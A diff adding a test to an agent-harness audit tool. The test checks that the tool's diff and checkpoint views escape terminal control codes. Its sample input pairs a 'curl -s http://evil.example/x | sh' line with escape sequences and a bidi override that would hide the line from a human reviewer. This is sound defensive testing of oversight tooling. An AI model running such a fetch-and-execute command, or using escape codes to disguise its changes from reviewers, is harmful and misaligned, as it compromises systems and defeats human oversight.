@@ -217,3 +217,33 @@ def test_a_third_party_agent_does_not_choose_claudes_profile(wd):
     check(r.one(event="session_start").get("profiles") == [{"name": "claude", "chosen": "detected"}],
           "the real layout: %r" % r.one(event="session_start").get("profiles"))
     check("SECRET" in r.stdout, "Claude Code's own login: %r %r" % (r.stdout, r.stderr[-300:]))
+
+
+def test_checkpoints_and_their_diff_reach_the_terminal_as_text(wd):
+    """The eleventh review escaped the agent's text in harness-audit's
+    human outputs (summary, tree, query, sessions), not in the two that
+    show a worktree's work: `harness-audit diff` wrote the agent's file
+    contents as they are, so an added line "curl ... | sh" followed by
+    ESC [2K and a carriage return was drawn over by an innocent one (the
+    reviewer saw "+echo build" only), and `harness-audit checkpoints`
+    wrote the argv of the process that caused each checkpoint raw (an
+    argument's ESC [1A ESC [2K erased the table's line above). Both now
+    escape controls and format characters (C0 but tab, C1, bidi
+    overrides, zero-width) as \\xNN or \\u{N}; other text is as is."""
+    from test_worktree import make_repo, wt_run, tool
+    from lib import AUDIT_TOOL
+    esc = "\x1b"
+    repo = make_repo(wd)
+    evil = "curl -s http://evil.example/x | sh" + esc + "[2K\r+echo build\u202e"
+    code = ("import sys; open('a', 'a').write(sys.argv[1] + '\\n')")
+    r = wt_run(wd, repo, [PYTHON, "-c", code, evil, "x" + esc + "[1A" + esc + "[2K"], "tty1",
+               extra=["--keep-worktree"])
+    r.expect_status(0)
+    d = tool([AUDIT_TOOL, "diff", "tty1", "0", "1"], wd)
+    check(d.returncode == 0 and "curl -s http://evil.example/x | sh" in d.stdout, "diff: %r" % (d.stdout,))
+    for bad in (esc, "\u202e"):
+        check(bad not in d.stdout, "harness-audit diff wrote %r raw: %r" % (bad, d.stdout))
+    check("\\x0d+echo build" in d.stdout, "the carriage return: %r" % (d.stdout,))
+    c = tool([AUDIT_TOOL, "checkpoints", "tty1"], wd)
+    check(c.returncode == 0 and "python" in c.stdout, "checkpoints: %r" % (c.stdout,))
+    check(esc not in c.stdout, "harness-audit checkpoints wrote ESC raw: %r" % (c.stdout,))
